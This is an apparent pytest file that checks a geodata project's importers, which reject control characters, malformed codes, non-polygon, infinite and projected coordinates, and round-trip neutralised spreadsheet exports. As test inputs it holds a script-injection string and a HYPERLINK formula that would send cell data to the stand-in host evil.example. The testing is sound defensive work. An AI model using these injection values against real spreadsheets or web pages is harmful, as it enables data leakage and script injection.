"""The importers apply the input rules every other path applies (yizhan.core.inputs,
yizhan.geo.validate): control characters, codes, boundaries; and read back our own exports."""

from __future__ import annotations

import io
import json

import openpyxl
import pytest

from yizhan.core.cells import spreadsheet_row
from yizhan.data.importers import ImportFailed, Upload, read_geometry, read_units

HEADER = "code,name,parent,households,office_m2,service_m2,plaza_m2"


def problems(call, *args, **kwargs):
    with pytest.raises(ImportFailed) as info:
        call(*args, **kwargs)
    return info.value.problems


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x0b"])
def test_a_name_with_a_control_character_is_refused_with_row_and_column(char):
    text = f"{HEADER}\nLH001,碧{char}波,黄贝,4000,250,900,1200\n"
    [p] = problems(read_units, Upload("u.csv", text.encode()))
    assert (p.row, p.column, p.kind) == (2, "name", "wrong_format")
    assert f"U+{ord(char):04X}" in p.message and f"U+{ord(char):04X}" in p.message_en


@pytest.mark.parametrize("code", ["</script><script>alert(1)</script>", "LH 001", "-LH001"])
def test_a_code_outside_the_pattern_is_refused(code):
    text = f'{HEADER}\n"{code}",碧波,黄贝,4000,250,900,1200\n'
    [p] = problems(read_units, Upload("u.csv", text.encode()))
    assert (p.column, p.kind) == ("code", "wrong_format")
    assert "_ . -" in p.message and "_ . -" in p.message_en


def test_our_neutralised_export_reads_back_to_the_same_names():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER.split(","))
    name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    ws.append(spreadsheet_row(["LH001", name, "黄贝", 4000, 250, 900, 1200]))
    buf = io.BytesIO()
    wb.save(buf)
    frame = read_units(Upload("u.xlsx", buf.getvalue())).frame
    assert frame.loc[0, "name"] == name


def _collection(geometry) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"code": "LH001"}, "geometry": geometry}]}).encode()


def test_geometry_of_type_foo_is_refused():
    [p] = problems(read_geometry, Upload("g.geojson", _collection({"type": "Foo"})))
    assert (p.row, p.column, p.kind) == (1, "geometry", "not_polygon") and "Foo" in p.message


def test_an_infinite_coordinate_is_refused():
    data = (b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
            b'{"code": "LH001"}, "geometry": {"type": "Polygon", "coordinates": '
            b'[[[1e400, 22.5], [114.1, 22.6], [114.2, 22.5], [1e400, 22.5]]]}}]}')
    [p] = problems(read_geometry, Upload("g.geojson", data))
    assert p.kind == "invalid_geometry" and "无穷大" in p.message and "infinite" in p.message_en


def test_projected_coordinates_are_refused_as_not_lon_lat():
    square = {"type": "Polygon", "coordinates": [[[500000, 2500000], [500100, 2500000],
                                                  [500100, 2500100], [500000, 2500000]]]}
    [p] = problems(read_geometry, Upload("g.geojson", _collection(square)))
    assert p.kind == "out_of_range" and "经纬度" in p.message
